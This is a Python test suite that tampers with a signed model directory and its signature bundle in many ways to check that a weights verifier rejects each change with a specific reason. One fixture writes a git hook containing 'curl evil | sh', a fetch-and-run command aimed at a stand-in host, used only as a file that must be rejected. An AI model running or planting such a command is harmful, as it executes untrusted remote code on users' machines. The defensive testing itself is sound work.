"""The tamper matrix: every way a model or its signature can be wrong fails closed, with its own exit code and reason.

Each case starts from a correctly signed tiny model, applies one change, runs `verify-weights` through its CLI
handler, and asserts the exit code, the reason in the JSON log line, and the evidence that names the culprit.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from weights_helpers import MODEL_FILES, make_key_pair, make_model, run_cli, sign, verify_argv

from modelfort.runtime.weights.reasons import Reason

pytestmark = pytest.mark.control("WP-05", "ST-01", "ST-07")


@dataclass
class Case:
    """What `mutate` changed, and what the verifier must say about it."""

    reason: Reason
    mutate: Callable[..., dict]
    evidence: dict = field(default_factory=dict)


def _flip_byte(release, tmp_path, capsys):
    path = release.model_dir / "model-00001-of-00002.safetensors"
    data = bytearray(path.read_bytes())
    data[1000] ^= 0x01
    path.write_bytes(bytes(data))
    return {}


def _same_size_rewrite(release, tmp_path, capsys):
    (release.model_dir / "config.json").write_bytes(b"X" * len(MODEL_FILES["config.json"]))
    return {}


def _truncate_file(release, tmp_path, capsys):
    (release.model_dir / "model-00002-of-00002.safetensors").write_bytes(b"")
    return {}


def _delete_file(release, tmp_path, capsys):
    (release.model_dir / "tokenizer" / "tokenizer.json").unlink()
    return {}


def _rename_file(release, tmp_path, capsys):
    (release.model_dir / "config.json").rename(release.model_dir / "config.json.bak")
    return {}


def _add_file(release, tmp_path, capsys):
    (release.model_dir / "extra.safetensors").write_bytes(b"\0" * 64)
    return {}


def _add_empty_file(release, tmp_path, capsys):
    (release.model_dir / "tokenizer" / "added_tokens.json").write_bytes(b"")
    return {}


def _add_git_file(release, tmp_path, capsys):
    (release.model_dir / ".git" / "hooks").mkdir(parents=True)
    (release.model_dir / ".git" / "hooks" / "post-checkout").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    return {}


def _add_gitattributes(release, tmp_path, capsys):
    (release.model_dir / ".gitattributes").write_bytes(b"*.safetensors filter=lfs\n")
    return {}


def _add_symlink(release, tmp_path, capsys):
    os.symlink("../config.json", release.model_dir / "tokenizer" / "config-link.json")
    return {}


def _replace_file_with_identical_symlink(release, tmp_path, capsys):
    # Same bytes behind the link: content hashing alone would pass; the link is refused because its target can
    # be changed after verification.
    outside = tmp_path / "outside-config.json"
    outside.write_bytes(MODEL_FILES["config.json"])
    (release.model_dir / "config.json").unlink()
    os.symlink(outside, release.model_dir / "config.json")
    return {}


def _add_directory_symlink(release, tmp_path, capsys):
    os.symlink(tmp_path, release.model_dir / "linked-dir")
    return {}


def _model_dir_is_symlink(release, tmp_path, capsys):
    link = tmp_path / "model-link"
    os.symlink(release.model_dir, link)
    return {"model": link}


def _add_fifo(release, tmp_path, capsys):
    os.mkfifo(release.model_dir / "tokenizer" / "pipe")
    return {}


def _missing_model_dir(release, tmp_path, capsys):
    shutil.rmtree(release.model_dir)
    return {}


def _model_is_a_file(release, tmp_path, capsys):
    return {"model": release.model_dir / "config.json"}


def _wrong_key(release, tmp_path, capsys):
    _, other_public = make_key_pair(tmp_path / "other", "other")
    return {"public_key": other_public}


def _signed_by_other_key_with_forged_hint(release, tmp_path, capsys):
    # An attacker signs with their own key and copies the trusted key's fingerprint into the (unauthenticated)
    # hint: the hint check passes, the cryptographic check must not.
    other_private, _ = make_key_pair(tmp_path / "attacker", "attacker")
    forged = tmp_path / "forged.sig"
    sign(release.model_dir, other_private, forged, capsys)
    trusted = serialization.load_pem_public_key(release.public_key.read_bytes())
    fingerprint = hashlib.sha256(
        trusted.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    ).hexdigest()
    bundle = json.loads(forged.read_text())
    bundle["verificationMaterial"]["publicKey"]["hint"] = fingerprint
    forged.write_text(json.dumps(bundle))
    return {"signature": forged}


def _truncate_signature(release, tmp_path, capsys):
    data = release.signature.read_bytes()
    release.signature.write_bytes(data[: len(data) // 2])
    return {}


def _garble_signature(release, tmp_path, capsys):
    release.signature.write_bytes(bytes(range(256)) * 4)
    return {}


def _empty_signature(release, tmp_path, capsys):
    release.signature.write_bytes(b"")
    return {}


def _json_but_not_a_bundle(release, tmp_path, capsys):
    release.signature.write_text(json.dumps({"mediaType": "nope", "verificationMaterial": {}}))
    return {}


def _flip_signature_bit(release, tmp_path, capsys):
    bundle = json.loads(release.signature.read_text())
    signature = bytearray(base64.b64decode(bundle["dsseEnvelope"]["signatures"][0]["sig"]))
    signature[-1] ^= 0x01
    bundle["dsseEnvelope"]["signatures"][0]["sig"] = base64.b64encode(bytes(signature)).decode()
    release.signature.write_text(json.dumps(bundle))
    return {}


def _alter_signed_payload(release, tmp_path, capsys):
    # Rewrite a file digest (and the root digest, so the manifest stays self-consistent) without re-signing.
    bundle = json.loads(release.signature.read_text())
    statement = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    resources = statement["predicate"]["resources"]
    resources[0]["digest"] = hashlib.sha256(b"attacker weights").hexdigest()
    root = hashlib.sha256(b"".join(bytes.fromhex(r["digest"]) for r in resources)).hexdigest()
    statement["subject"][0]["digest"]["sha256"] = root
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    release.signature.write_text(json.dumps(bundle))
    return {"root_digest": root}


def _strip_key_hint(release, tmp_path, capsys):
    bundle = json.loads(release.signature.read_text())
    del bundle["verificationMaterial"]["publicKey"]["hint"]
    release.signature.write_text(json.dumps(bundle))
    return {}


def _missing_signature(release, tmp_path, capsys):
    release.signature.unlink()
    return {}


def _signature_is_a_directory(release, tmp_path, capsys):
    release.signature.unlink()
    release.signature.mkdir()
    return {}


def _public_key_is_a_fifo(release, tmp_path, capsys):
    # Reading a FIFO would block the init container forever; it must fail at once.
    release.public_key.unlink()
    os.mkfifo(release.public_key)
    return {}


def _garbage_public_key(release, tmp_path, capsys):
    release.public_key.write_bytes(b"-----BEGIN PUBLIC KEY-----\nnot a key\n-----END PUBLIC KEY-----\n")
    return {}


def _rsa_public_key(release, tmp_path, capsys):
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key()
    release.public_key.write_bytes(
        key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    return {}


def _malformed_pin(release, tmp_path, capsys):
    return {"root_digest": release.root_digest[:-1]}


CASES = {
    "flipped byte": Case(Reason.FILE_MODIFIED, _flip_byte, {"modified": ["model-00001-of-00002.safetensors"]}),
    "same-size rewrite": Case(Reason.FILE_MODIFIED, _same_size_rewrite, {"modified": ["config.json"]}),
    "truncated file": Case(Reason.FILE_MODIFIED, _truncate_file, {"modified": ["model-00002-of-00002.safetensors"]}),
    "missing file": Case(Reason.FILE_MISSING, _delete_file, {"missing": ["tokenizer/tokenizer.json"]}),
    "renamed file": Case(
        Reason.FILE_MISSING, _rename_file, {"missing": ["config.json"], "unexpected": ["config.json.bak"]}
    ),
    "extra file": Case(Reason.FILE_UNEXPECTED, _add_file, {"unexpected": ["extra.safetensors"]}),
    "extra empty file": Case(Reason.FILE_UNEXPECTED, _add_empty_file, {"unexpected": ["tokenizer/added_tokens.json"]}),
    "extra file under .git": Case(Reason.FILE_UNEXPECTED, _add_git_file, {"unexpected": [".git/hooks/post-checkout"]}),
    "extra .gitattributes": Case(Reason.FILE_UNEXPECTED, _add_gitattributes, {"unexpected": [".gitattributes"]}),
    "symlink in subdirectory": Case(Reason.SYMLINK_PRESENT, _add_symlink, {"paths": ["tokenizer/config-link.json"]}),
    "signed file replaced by symlink to identical bytes": Case(
        Reason.SYMLINK_PRESENT, _replace_file_with_identical_symlink, {"paths": ["config.json"]}
    ),
    "symlink to a directory": Case(Reason.SYMLINK_PRESENT, _add_directory_symlink, {"paths": ["linked-dir"]}),
    "model directory is a symlink": Case(Reason.SYMLINK_PRESENT, _model_dir_is_symlink, {"paths": ["."]}),
    "fifo": Case(Reason.SPECIAL_FILE_PRESENT, _add_fifo, {"paths": ["tokenizer/pipe"]}),
    "model directory missing": Case(Reason.MODEL_DIR_INVALID, _missing_model_dir),
    "model is a file": Case(Reason.MODEL_DIR_INVALID, _model_is_a_file),
    "wrong public key": Case(Reason.KEY_MISMATCH, _wrong_key),
    "other key, forged key hint": Case(Reason.SIGNATURE_INVALID, _signed_by_other_key_with_forged_hint),
    "truncated signature": Case(Reason.SIGNATURE_MALFORMED, _truncate_signature),
    "garbled signature": Case(Reason.SIGNATURE_MALFORMED, _garble_signature),
    "empty signature": Case(Reason.SIGNATURE_MALFORMED, _empty_signature),
    "JSON that is not a bundle": Case(Reason.SIGNATURE_MALFORMED, _json_but_not_a_bundle),
    "flipped signature bit": Case(Reason.SIGNATURE_INVALID, _flip_signature_bit),
    "payload altered after signing": Case(Reason.SIGNATURE_INVALID, _alter_signed_payload),
    "key hint stripped (legacy bundle)": Case(Reason.SIGNATURE_UNSUPPORTED, _strip_key_hint),
    "signature missing": Case(Reason.SIGNATURE_UNREADABLE, _missing_signature),
    "signature is a directory": Case(Reason.SIGNATURE_UNREADABLE, _signature_is_a_directory),
    "public key is a FIFO": Case(Reason.PUBLIC_KEY_INVALID, _public_key_is_a_fifo),
    "garbage public key": Case(Reason.PUBLIC_KEY_INVALID, _garbage_public_key),
    "RSA public key": Case(Reason.PUBLIC_KEY_INVALID, _rsa_public_key),
    "malformed pinned digest": Case(Reason.PINNED_DIGEST_INVALID, _malformed_pin),
}


@pytest.mark.parametrize("case", list(CASES.values()), ids=list(CASES))
def test_tampering_fails_closed_with_its_own_reason(case: Case, release, tmp_path: Path, capsys) -> None:
    overrides = case.mutate(release, tmp_path, capsys)
    argv = verify_argv(
        overrides.get("model", release.model_dir),
        overrides.get("signature", release.signature),
        overrides.get("public_key", release.public_key),
        overrides.get("root_digest", release.root_digest),
    )

    result = run_cli(argv, capsys)

    record = result.record
    assert result.exit_code == case.reason.exit_code, record
    assert record["outcome"] == "rejected"
    assert record["reason"] == case.reason.code
    assert record["exit_code"] == case.reason.exit_code
    assert record["detail"]
    for key, expected in case.evidence.items():
        assert record["evidence"][key] == expected, record
    assert result.stderr == ""


@pytest.mark.control("WP-05", "ST-07", "DP-09")
def test_rollback_to_an_older_validly_signed_release_is_refused(tmp_path: Path, keys, capsys) -> None:
    private_key, public_key = keys
    v1 = make_model(tmp_path / "v1", {**MODEL_FILES, "config.json": b'{"release": 1}\n'})
    v1_digest = sign(v1, private_key, tmp_path / "v1.sig", capsys)
    v2 = make_model(tmp_path / "v2", {**MODEL_FILES, "config.json": b'{"release": 2}\n'})
    v2_digest = sign(v2, private_key, tmp_path / "v2.sig", capsys)

    # The whole older release (its files and its valid signature) deployed while the stack pins v2.
    result = run_cli(verify_argv(v1, tmp_path / "v1.sig", public_key, v2_digest), capsys)

    assert result.exit_code == Reason.ROOT_DIGEST_MISMATCH.exit_code
    assert result.record["reason"] == "root_digest_mismatch"
    assert result.record["root_digest"] == v1_digest
    assert result.record["pinned_root_digest"] == v2_digest
    assert v1_digest in result.record["detail"] and v2_digest in result.record["detail"]


def test_older_files_under_the_current_signature_are_refused(tmp_path: Path, keys, capsys) -> None:
    private_key, public_key = keys
    v1 = make_model(tmp_path / "v1", {**MODEL_FILES, "config.json": b'{"release": 1}\n'})
    v2 = make_model(tmp_path / "v2", {**MODEL_FILES, "config.json": b'{"release": 2}\n'})
    v2_digest = sign(v2, private_key, tmp_path / "v2.sig", capsys)

    result = run_cli(verify_argv(v1, tmp_path / "v2.sig", public_key, v2_digest), capsys)

    assert result.exit_code == Reason.FILE_MODIFIED.exit_code
    assert result.record["evidence"]["modified"] == ["config.json"]


def test_pinned_digest_is_accepted_with_prefix_and_in_upper_case(release, capsys) -> None:
    pinned = "sha256:" + release.root_digest.upper()
    result = run_cli(verify_argv(release.model_dir, release.signature, release.public_key, pinned), capsys)
    assert result.exit_code == 0
    assert result.record["pinned_root_digest"] == release.root_digest


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    relative=st.sampled_from(sorted(MODEL_FILES)),
    position=st.integers(min_value=0, max_value=10_000),
    mask=st.integers(min_value=1, max_value=255),
)
def test_any_single_byte_change_is_caught(release, capsys, relative: str, position: int, mask: int) -> None:
    path = release.model_dir.joinpath(*relative.split("/"))
    original = path.read_bytes()
    changed = bytearray(original)
    changed[position % len(original)] ^= mask
    path.write_bytes(bytes(changed))
    try:
        result = run_cli(
            verify_argv(release.model_dir, release.signature, release.public_key, release.root_digest), capsys
        )
    finally:
        path.write_bytes(original)
    assert result.exit_code == Reason.FILE_MODIFIED.exit_code
    assert result.record["evidence"]["modified"] == [relative]
